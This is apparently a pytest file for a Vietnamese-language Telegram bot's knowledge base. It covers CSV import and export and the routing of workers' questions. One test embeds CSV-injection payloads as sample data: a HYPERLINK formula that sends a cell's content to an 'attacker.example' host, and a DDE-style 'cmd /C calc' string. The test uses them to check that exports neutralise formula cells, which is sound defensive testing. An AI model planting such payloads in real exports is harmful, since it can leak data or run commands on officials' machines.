"""`python -m bot kb import|export` and the KB deflection in the worker's flow."""

from __future__ import annotations

import asyncio
import codecs
import csv
import io
import subprocess
import sys
from pathlib import Path

from knowledge_base import Entry, read_csv
from tests.conftest import OFFICIALS, WORKER, Harness

ROOT = Path(__file__).resolve().parent.parent

CONFIG = """
[telegram]
token = "123456:TEST-TOKEN"
[officials]
chat_id = -100123
[storage]
path = "kb.sqlite3"
[[topics]]
key = "housing"
title = "Nhà ở"
[[topics]]
key = "procedures"
title = "Thủ tục"
"""

CSV = (
    "id,topic,question,answer\n"
    "kb-1,housing,Công nhân có được thuê nhà ở xã hội không?,\"Có, nếu đủ điều kiện.\"\n"
    "kb-2,procedures,Chốt sổ bảo hiểm xã hội ở đâu?,Tại cơ quan BHXH huyện.\n"
)


def bot_cli(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    config = tmp_path / "config.toml"
    config.write_text(CONFIG, encoding="utf-8")
    return subprocess.run([sys.executable, "-m", "bot", *args, "--config", str(config)],
                          check=False, capture_output=True, text=True, cwd=ROOT, timeout=60)


def test_import_then_export_round_trip_with_bom(tmp_path: Path) -> None:
    source = tmp_path / "kb.csv"
    source.write_bytes(codecs.BOM_UTF8 + CSV.encode("utf-8"))
    result = bot_cli(tmp_path, "kb", "import", str(source))
    assert result.returncode == 0, result.stderr
    assert "2" in result.stdout
    out = tmp_path / "out.csv"
    assert bot_cli(tmp_path, "kb", "export", str(out)).returncode == 0
    text = out.read_text(encoding="utf-8")
    assert "Chốt sổ bảo hiểm xã hội ở đâu?" in text and "kb-1" in text


def test_import_keeps_the_variants_column(tmp_path: Path) -> None:
    source = tmp_path / "kb.csv"
    source.write_text(
        "id,topic,question,answer,variants\n"
        "kb-1,housing,Công nhân có được thuê nhà ở xã hội không?,\"Có, nếu đủ điều kiện.\","
        "\"Mướn nhà giá rẻ của nhà nước được không?\nỞ trọ lâu rồi muốn thuê nhà nhà nước\"\n",
        encoding="utf-8")
    assert bot_cli(tmp_path, "kb", "import", str(source)).returncode == 0
    out = tmp_path / "out.csv"
    assert bot_cli(tmp_path, "kb", "export", str(out)).returncode == 0
    [entry] = read_csv(out)
    assert entry.variants == ("Mướn nhà giá rẻ của nhà nước được không?", "Ở trọ lâu rồi muốn thuê nhà nhà nước")

    # A file without the column leaves the stored variants alone; an empty cell clears them.
    source.write_text(CSV, encoding="utf-8")
    assert bot_cli(tmp_path, "kb", "import", str(source)).returncode == 0
    assert bot_cli(tmp_path, "kb", "export", str(out)).returncode == 0
    assert len(read_csv(out)[0].variants) == 2
    source.write_text(CSV.replace("id,topic,question,answer\n", "id,topic,question,answer,variants\n"),
                      encoding="utf-8")
    assert bot_cli(tmp_path, "kb", "import", str(source)).returncode == 0
    assert bot_cli(tmp_path, "kb", "export", str(out)).returncode == 0
    assert all(not entry.variants for entry in read_csv(out))


def test_broken_row_imports_nothing(tmp_path: Path) -> None:
    source = tmp_path / "kb.csv"
    source.write_text(CSV + "kb-3,housing,Câu hỏi thiếu trả lời\n", encoding="utf-8")
    result = bot_cli(tmp_path, "kb", "import", str(source))
    assert result.returncode == 1
    assert "4" in result.stderr  # the line number of the broken row
    assert "Nothing was imported" in result.stderr
    exported = bot_cli(tmp_path, "kb", "export")
    assert "kb-1" not in exported.stdout


def test_unknown_topic_imports_nothing(tmp_path: Path) -> None:
    source = tmp_path / "kb.csv"
    source.write_text(CSV + "kb-3,space,Câu hỏi về vũ trụ?,Không.\n", encoding="utf-8")
    result = bot_cli(tmp_path, "kb", "import", str(source))
    assert result.returncode == 1 and "space" in result.stderr
    assert "kb-1" not in bot_cli(tmp_path, "kb", "export").stdout


async def test_kb_answer_deflects_the_question(bot: Harness) -> None:
    await bot.services.knowledge.publish([
        Entry("kb-1", "housing", "Công nhân khu công nghiệp có được thuê nhà ở xã hội không?",
              "Có. Công nhân đủ điều kiện được thuê nhà ở xã hội; hồ sơ nộp tại chủ đầu tư dự án."),
    ])
    assert "Mời bạn gõ" in (await bot.say(WORKER, "/ask"))["text"]
    suggestion = await bot.say(WORKER, "cong nhan kcn co dc thue nha o xa hoi ko a")  # no topic yet
    assert "đã được giải đáp" in suggestion["text"]
    assert "hồ sơ nộp tại chủ đầu tư" in suggestion["text"]
    await bot.press(WORKER, suggestion, "Đã rõ")
    thanks = await bot.emu.wait_for_bot_message(WORKER, after=suggestion["message_id"])
    assert "Rất vui" in thanks["text"]
    assert await bot.services.storage.count_deflections() == 1
    assert not bot.emu.bot_messages(OFFICIALS)


async def test_kb_answer_not_enough_routes_to_officials(bot: Harness) -> None:
    await bot.services.knowledge.publish([
        Entry("kb-1", "housing", "Công nhân khu công nghiệp có được thuê nhà ở xã hội không?",
              "Có, nếu đủ điều kiện."),
    ])
    suggestion = await bot.say(WORKER, "Công nhân khu công nghiệp có được thuê nhà ở xã hội không?")
    assert "đã được giải đáp" in suggestion["text"]
    await bot.press(WORKER, suggestion, "Vẫn gửi")
    topics = await bot.emu.wait_for_bot_message(WORKER, lambda m: "lĩnh vực nào" in m["text"],
                                                after=suggestion["message_id"])
    await bot.press(WORKER, topics, "Nhà ở")
    confirm = await bot.emu.wait_for_edit(WORKER, topics["message_id"],
                                          lambda m: "kiểm tra lại" in m["text"])
    await bot.press(WORKER, confirm, "Gửi ẩn danh")
    sent = await bot.emu.wait_for_edit(WORKER, topics["message_id"], lambda m: "#" in m["text"])
    case = int(sent["text"].split("#")[1].split(".")[0])
    card = await bot.card(case)
    assert "Ẩn danh" in card["text"]


async def test_unrelated_question_gets_no_suggestion(bot: Harness) -> None:
    await bot.services.knowledge.publish([
        Entry("kb-1", "housing", "Công nhân khu công nghiệp có được thuê nhà ở xã hội không?", "Có."),
    ])
    assert "Mời bạn gõ" in (await bot.say(WORKER, "/ask"))["text"]
    reply = await bot.say(WORKER, "Công ty nợ lương ba tháng thì tôi khiếu nại ở đâu?")
    assert "lĩnh vực nào" in reply["text"]


async def test_export_never_writes_a_formula_cell(bot: Harness, tmp_path: Path) -> None:
    # Wordings workers typed reach the KB; one that starts like a formula would run in
    # Excel when an official opens the export (OWASP "CSV injection").
    link = '=HYPERLINK("http://attacker.example/?q="&A1,"Xem chi tiết")'
    published = Entry("kb-1", "housing", link, "- Bước 1: nộp hồ sơ.\n- Bước 2: chờ duyệt.",
                      variants=("@SUM(1+1)*cmd /C calc!A0", "+84 có được thuê không?"))
    await bot.services.knowledge.publish([published])
    config = tmp_path / "config.toml"
    config.write_text(CONFIG.replace('"kb.sqlite3"', f'"{bot.config.storage.path}"'),
                      encoding="utf-8")
    out = tmp_path / "out.csv"
    result = await asyncio.to_thread(
        subprocess.run, [sys.executable, "-m", "bot", "kb", "export", str(out), "--config", str(config)],
        check=False, capture_output=True, text=True, cwd=ROOT, timeout=60)
    assert result.returncode == 0, result.stderr
    text = out.read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert link in "".join(cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Importing the export gives back exactly what was published.
    [entry] = read_csv(out)
    assert entry == published
